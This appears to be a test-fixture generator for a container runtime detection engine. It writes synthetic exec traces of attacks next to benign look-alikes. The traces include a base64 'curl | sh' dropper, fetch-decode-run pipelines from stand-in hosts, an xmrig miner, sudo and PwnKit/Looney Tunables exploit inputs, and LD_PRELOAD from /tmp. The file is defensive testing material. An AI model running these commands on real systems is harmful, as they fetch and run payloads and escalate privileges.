    t.fork(111, 100)
    t.exec(111, 100, "/bin/sh", ["/bin/sh", "-c", "cat /etc/passwd"], WEB, binary="/usr/bin/dash", stdio=[DEVNULL, fd("pipe", 602), DEVNULL])
    t.exit(111)
    t.comment("a base64-encoded dropper decoded and run; its command line is the base64 rule's")
    enc = "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC42Ni94IHwgc2g="  # curl -s http://198.51.100.66/x | sh
    t.fork(120, 101)
    t.exec(120, 101, "/bin/bash", ["bash", "-c", "echo " + enc + " | base64 -d | sh"], WEB, stdio=[DEVNULL, fd("pipe", 603), DEVNULL])
    t.comment("a miner pointed at a stratum pool, from the worker container")
    t.exec(300, 1, "/tmp/.cache/xmrig", ["xmrig", "-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet", "-p", "x"], WORKER, layer="added")
    t.comment("fileless: a memfd binary, and one from /dev/shm")
    t.exec(301, 1, "/memfd:kthreadd (deleted)", ["kthreadd"], WORKER, layer="memfd")
    t.exec(302, 1, "/dev/shm/.x", ["/dev/shm/.x"], WORKER, layer="notOverlay")
    t.comment("sudo CVE patterns and an OpenSSL engine from /tmp")
    t.exec(303, 1, "/usr/bin/sudo", ["sudo", "-u#-1", "/bin/bash"], WORKER, uid=1000)
    t.exec(304, 1, "/usr/bin/sudoedit", ["sudoedit", "-s", "AAAAAAAA\\"], WORKER, uid=1000)
    t.exec(305, 1, "/usr/bin/openssl", ["openssl", "req", "-engine", "/tmp/libpwn.so"], WORKER)
    t.comment("look-alikes that stay quiet: an entrypoint's shell, sudo as another user, openssl without an engine, base64 of data")
    t.exec(400, 1, "/usr/bin/catatonit", ["catatonit", "--", "/entrypoint.sh"], WORKER)
    t.fork(401, 400)
    t.exec(401, 400, "/bin/bash", ["bash", "/entrypoint.sh"], WORKER)
    t.exec(402, 1, "/usr/bin/sudo", ["sudo", "-u", "www-data", "id"], WORKER, uid=1000)
    t.exec(403, 1, "/usr/bin/openssl", ["openssl", "s_client", "-connect", "127.0.0.1:443"], WORKER)
    t.exec(404, 1, "/usr/bin/base64", ["base64", "-d", "/app/logo.b64"], WORKER)
    t.exec(405, 1, "/usr/local/bin/python3", ["python3", "-m", "http.server", "--bind", "127.0.0.1"], WORKER)
    t.write()


def rules_piped():
    t = Trace("rules-piped")
    t.comment("pipe neighbours: the engine pairs the members of a pipeline by pipe inode (docs/rules.md)")
    web_server(t)
    LOG = fd("pipe", 600)
    t.comment("curl -s http://198.51.100.66/p.b64 | base64 -d | sh, typed into a web shell; members exec in order")
    t.fork(130, 101)
    t.exec(130, 101, "/bin/bash", ["bash"], WEB, stdio=[fd("pipe", 700), LOG, LOG])
    P1, P2 = fd("pipe", 9001), fd("pipe", 9002)
    for pid in (131, 132, 133):
        t.fork(pid, 130)
    t.exec(131, 130, "/usr/bin/curl", ["curl", "-s", "http://198.51.100.66/p.b64"], WEB, stdio=[fd("pipe", 700), P1, LOG])
    t.exec(132, 130, "/usr/bin/base64", ["base64", "-d"], WEB, stdio=[P1, P2, LOG])
    t.exit(131)
    t.exec(133, 130, "/bin/sh", ["sh"], WEB, binary="/usr/bin/dash", stdio=[P2, LOG, LOG])
    t.exit(132)
    t.exit(133)
    t.comment("the same pipeline with the members exec'ing the other way round (sh, base64, wget)")
    Q1, Q2 = fd("pipe", 9011), fd("pipe", 9012)
    for pid in (141, 142, 143):
        t.fork(pid, 130)
    t.exec(143, 130, "/bin/bash", ["bash"], WEB, stdio=[Q2, LOG, LOG])
    t.exec(142, 130, "/usr/bin/base64", ["base64", "--decode"], WEB, stdio=[Q1, Q2, LOG])
    t.exec(141, 130, "/usr/bin/wget", ["wget", "-qO-", "http://198.51.100.66/q.b64"], WEB, stdio=[fd("pipe", 700), Q1, LOG])
    for pid in (141, 142, 143):
        t.exit(pid)
    t.comment("look-alikes that stay quiet: curl | jq, cat cert.b64 | base64 -d | tee, curl | base64 (encoding),")
    t.comment("base64 -d | python3 -c (stdin is data), and nc | while read (a subshell that never exec'd)")
    t.exec(400, 1, "/usr/bin/catatonit", ["catatonit", "--", "/entrypoint.sh"], WORKER)
    t.fork(401, 400)
    t.exec(401, 400, "/bin/bash", ["bash"], WORKER)
    R = [fd("pipe", 9100 + i) for i in range(8)]
    for pid in range(402, 413):
        t.fork(pid, 401)
    t.exec(402, 401, "/usr/bin/curl", ["curl", "-s", "http://169.254.169.254/token"], WORKER, stdio=[DEVNULL, R[0], DEVNULL])
    t.exec(403, 401, "/usr/bin/jq", ["jq", ".token"], WORKER, stdio=[R[0], DEVNULL, DEVNULL])
    t.exec(404, 401, "/usr/bin/cat", ["cat", "/run/secrets/cert.b64"], WORKER, stdio=[DEVNULL, R[1], DEVNULL])
    t.exec(405, 401, "/usr/bin/base64", ["base64", "-d"], WORKER, stdio=[R[1], R[2], DEVNULL])
    t.exec(406, 401, "/usr/bin/tee", ["tee", "/tmp/cert.pem"], WORKER, stdio=[R[2], DEVNULL, DEVNULL])
    t.exec(407, 401, "/usr/bin/curl", ["curl", "-s", "https://example.com/logo.png"], WORKER, stdio=[DEVNULL, R[3], DEVNULL])
    t.exec(408, 401, "/usr/bin/base64", ["base64", "-w0"], WORKER, stdio=[R[3], DEVNULL, DEVNULL])
    t.exec(409, 401, "/usr/bin/base64", ["base64", "-d", "/app/user.b64"], WORKER, stdio=[DEVNULL, R[4], DEVNULL])
    t.exec(410, 401, "/usr/local/bin/python3", ["python3", "-c", "import json,sys; print(json.load(sys.stdin)['user'])"],
           WORKER, binary="/usr/local/bin/python3.11", stdio=[R[4], DEVNULL, DEVNULL])
    t.dup(411, 0, R[5])
    t.exec(412, 401, "/usr/bin/nc", ["nc", "127.0.0.1", "9000"], WORKER, stdio=[DEVNULL, R[5], DEVNULL])
    t.write()


def rules_wait():
    t = Trace("rules-wait")
    t.comment("on_missing_metadata = \"wait\" (INGRESS_NIGHTMARE_VULNERABILITY_EXPLOITATION, turned on in rules-wait.toml):")
    t.comment("an exec whose container metadata is missing is held until a later exec of that container brings it")
    NOTE = {"note": "metadata unavailable: timed out after 200 ms"}
    ING = {"id": "1" * 64, "meta": NOTE}
    ING_KNOWN = {"id": "1" * 64, "meta": {"name": "controller", "image": "registry.k8s.io/ingress-nginx/controller:v1.11.4"}}
    APP = {"id": "2" * 64, "meta": NOTE}
    APP_KNOWN = {"id": "2" * 64, "meta": {"name": "web", "image": "docker.io/library/nginx:1.27"}}
    ING2 = {"id": "3" * 64, "meta": NOTE}
    t.comment("1. the ingress controller's nginx -t on a /proc fd, metadata missing: held; the controller image arrives: fires")
    t.exec(500, 1, "/usr/bin/dumb-init", ["dumb-init", "--", "/start.sh"], ING)
    t.fork(501, 500)
    t.exec(501, 500, "/usr/bin/nginx", ["nginx", "-c", "/proc/57/fd/11", "-t"], ING)
    t.exit(501)
    t.fork(502, 500)
    t.exec(502, 500, "/usr/bin/env", ["env"], ING_KNOWN)
    t.comment("2. the same command line in a plain nginx container: held; its image arrives: quiet")
    t.exec(600, 1, "/usr/bin/dumb-init", ["dumb-init", "--", "/start.sh"], APP)
    t.fork(601, 600)
    t.exec(601, 600, "/usr/bin/nginx", ["nginx", "-c", "/proc/1/fd/3", "-t"], APP)
    t.fork(602, 600)
    t.exec(602, 600, "/usr/bin/env", ["env"], APP_KNOWN)
    t.comment("3. metadata that never comes: alerts once metadata_wait (2 s) has passed (event time)")
    t.exec(700, 1, "/usr/bin/dumb-init", ["dumb-init", "--", "/start.sh"], ING2)
    t.fork(701, 700)
    t.exec(701, 700, "/usr/bin/nginx", ["nginx", "-t", "-c", "/proc/9/fd/4"], ING2)
    t.tick(3000)
    t.exec(800, 1, "/usr/bin/true", ["true"])
    t.write()


def rules_urls():
    t = Trace("rules-urls")
    t.comment("Malicious URL Observed against testdata/intel/example-urls.txt (--url-feed): URLs and hosts in command lines")
    t.comment("a listed URL (the feed writes it HTTP://...:80/...), run twice: one finding, count 2")
    t.exec(300, 1, "/usr/bin/wget", ["wget", "-q", "http://198.51.100.77/bins/x86", "-O", "/tmp/x"], WORKER)
    t.exec(301, 1, "/usr/bin/wget", ["wget", "-q", "http://198.51.100.77/bins/x86", "-O", "/tmp/x"], WORKER)
    t.comment("a URL on a listed host (case and trailing dot differ), inside a shell's -c string")
    t.exec(302, 1, "/bin/sh", ["sh", "-c", "curl -fsSL https://Dropper.Example./a.sh | sh"], WORKER, binary="/usr/bin/dash")
    t.comment("a name under a listed domain, named alone (ssh user@host)")
    t.exec(303, 1, "/usr/bin/ssh", ["ssh", "-p", "2222", "root@node7.c2.example"], WORKER)
    t.comment("look-alikes that stay quiet: another path on the listed URL's host, a name that only ends like the domain,")
    t.comment("a URL the feed does not list, file names that look like host names")
    t.exec(400, 1, "/usr/bin/wget", ["wget", "-q", "http://198.51.100.77/bins/arm"], WORKER)
    t.exec(401, 1, "/usr/bin/curl", ["curl", "-s", "https://notc2.example/"], WORKER)
    t.exec(402, 1, "/usr/bin/curl", ["curl", "-s", "https://registry.npmjs.org/express"], WORKER)
    t.exec(403, 1, "/usr/bin/tar", ["tar", "xzf", "release.tar.gz", "-C", "/opt/app.d"], WORKER)
    t.write()


def rules_env():
    t = Trace("rules-env")
    t.comment("rules on the environment at exec; rules-env.toml turns #31 on and report_environment_variables")
    base = ["PATH=/usr/local/bin:/usr/bin:/bin", "HOSTNAME=worker-1", "HOME=/root"]
    t.comment("#31: a proxy variable on a program in a container (key rule: one finding per container)")
    t.exec(300, 1, "/usr/bin/curl", ["curl", "-s", "http://example.com/"], WORKER,
           env=base + ["HTTP_PROXY=http://203.0.113.9:3128"])
    t.comment("LD_PRELOAD from /tmp; the environment was cut at the sensor's cap")
    t.exec(301, 1, "/usr/bin/id", ["id"], WORKER, env=["LD_PRELOAD=/tmp/.x.so"] + base, env_truncated=True)
    t.comment("the GCONV_PATH half of PwnKit: the public exploit's envp for pkexec, uid 1000")
    t.exec(302, 1, "/usr/bin/pkexec", ["pkexec"], WORKER, uid=1000,
           env=["pwnkit", "PATH=GCONV_PATH=.", "CHARSET=PWNKIT", "SHELL=pwnkit"])
    t.comment("the Looney Tunables input against su")
    t.exec(303, 1, "/usr/bin/su", ["su", "--help"], WORKER, uid=1000,
           env=["GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=" + "A" * 64])
    t.comment("look-alikes that stay quiet: a proxy turned off, NO_PROXY, jemalloc preloaded from the image,")
    t.comment("ordinary tuning, GCONV_PATH for iconv, a proxy variable on the host")
    t.exec(400, 1, "/usr/bin/curl", ["curl", "-s", "http://example.com/"], WEB, env=base + ["HTTP_PROXY=", "NO_PROXY=localhost"])
    t.exec(401, 1, "/usr/bin/redis-server", ["redis-server"], WEB,
           env=base + ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"])
    t.exec(402, 1, "/usr/bin/java", ["java", "-jar", "app.jar"], WEB, env=base + ["GLIBC_TUNABLES=glibc.malloc.arena_max=2"])
    t.exec(403, 1, "/usr/bin/iconv", ["iconv", "-f", "X", "-t", "UTF-8"], WEB, uid=1000, env=["GCONV_PATH=/opt/gconv"])
    t.exec(404, 1, "/usr/bin/curl", ["curl", "-s", "http://example.com/"], env=["HTTP_PROXY=http://proxy.corp.example:3128"])
    t.write()


def malformed():
    t = Trace("malformed-lines")
    t.comment("bad lines are reported with line number and field, skipped, and the rest still detected")
    web_server(t)
    t.raw('{"type":"exec","time":"yesterday","node":"node-a","pid":1}')
    t.raw("this is not json")
    t.raw('{"type":"teleport","time":1}')
    t.raw('{"type":"fd","time":1,"pid":102,"fd":0,"via":"dup2","target":{"kind":"inetSocket","socket":{"protocol":"TCP","localIp":"not-an-ip","localPort":1,"remoteIp":"1.2.3.4","remotePort":2}}}')
    t.fork(102, 101)
    t.exec(102, 101, "/bin/sh", ["/bin/sh"], WEB, binary="/usr/bin/dash", stdio=[S, S, S])
    t.raw('{"type":"exec","time":1,"node":"n","pid":5,"ppid":1,"filename":"/x","binary":{"path":"/x","sha256":"abc"},"argv":[]}')
    commands(t, 102, 110, [S, S, S], [["id"]])
    t.write()


if __name__ == "__main__":
    for f in (rce_bash_dev_tcp, rce_nc_e, rce_busybox_nc_e, rce_python, rce_perl, rce_socat, rce_mkfifo,
              rce_udp, rce_dev_tcp_into_shell, rce_relays, benign_transfers, benign_sessions, compilers, malicious_binaries, drift, python_scripts, rules, rules_piped, rules_wait, rules_urls, rules_env, malformed):
        f()
